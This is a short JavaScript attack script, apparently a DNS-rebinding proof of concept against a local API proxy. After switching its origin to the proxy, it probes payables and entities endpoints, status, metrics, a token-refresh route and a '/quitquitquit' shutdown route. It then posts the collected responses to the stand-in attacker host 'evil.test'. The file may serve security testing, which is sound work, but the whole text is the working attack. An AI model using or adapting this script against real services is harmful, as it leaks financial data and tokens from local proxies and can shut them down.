// After /switch this page's own origin is the proxy.
const report = new URLSearchParams(location.search).get("report");
const results = {};

async function note(name, path, options) {
  try {
    const response = await fetch(path, { cache: "no-store", ...options });
    results[name] = `${response.status} ${(await response.text()).slice(0, 300)}`;
  } catch (err) {
    results[name] = "failed: " + err.message;
  }
}

(async () => {
  try {
    await fetch("/switch");
  } catch {}
  const json = { "content-type": "application/json" };
  await note("GET", "/v1/entities");
  await note("GET with a field", "/v1/entities", { headers: { "x-monite-entity-id": "11111111-1111-4111-8111-111111111111" } });
  await note("POST", "/v1/payables/x/cancel", { method: "POST" });
  await note("POST JSON", "/v1/payables", { method: "POST", body: "{}", headers: json });
  await note("PUT", "/v1/payables/x", { method: "PUT", body: "{}", headers: json });
  await note("DELETE", "/v1/payables/x", { method: "DELETE" });
  await note("status", "/status");
  await note("metrics", "/metrics");
  await note("refresh", "/tokens/refresh", { method: "POST" });
  await note("quit", "/quitquitquit", { method: "POST" });
  await fetch(`http://evil.test:${report}/report`, { method: "POST", mode: "no-cors", body: JSON.stringify(results) });
})();
